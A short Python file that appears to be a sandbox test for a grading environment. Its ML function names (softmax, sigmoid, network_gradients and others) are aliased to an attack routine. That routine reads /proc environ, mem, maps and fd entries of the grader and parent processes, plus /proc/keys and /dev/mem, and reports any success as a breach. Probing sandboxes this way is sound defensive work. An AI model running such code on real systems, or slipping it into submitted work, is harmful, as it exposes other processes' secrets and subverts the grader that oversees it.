"""Reads the grader and the zygote through /proc."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import os

FILES = "environ cmdline maps mem auxv stat status fd cwd root exe task/1/children net/tcp mountinfo stack".split()

def attack():
    for pid in ("self", "1", "@GRADER@", str(os.getppid()), str(os.getppid() - 1), "thread-self"):
        for file in FILES:
            path = f"/proc/{pid}/{file}"
            attempt(path, lambda: open(path, "rb").read(300))
            if "self" not in pid:  # where its own program lies, it knows anyway
                attempt("link " + path, lambda: os.readlink(path))
            attempt("list " + path, lambda: os.listdir(path))
    for path in ("/proc/sysvipc/shm", "/proc/keys", "/proc/version", "/proc/cmdline", "/sys/kernel", "/dev/mem", "/dev/kmsg", "/dev/fd/3", "/dev/kvm"):
        attempt(path, lambda: open(path, "rb").read(300))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
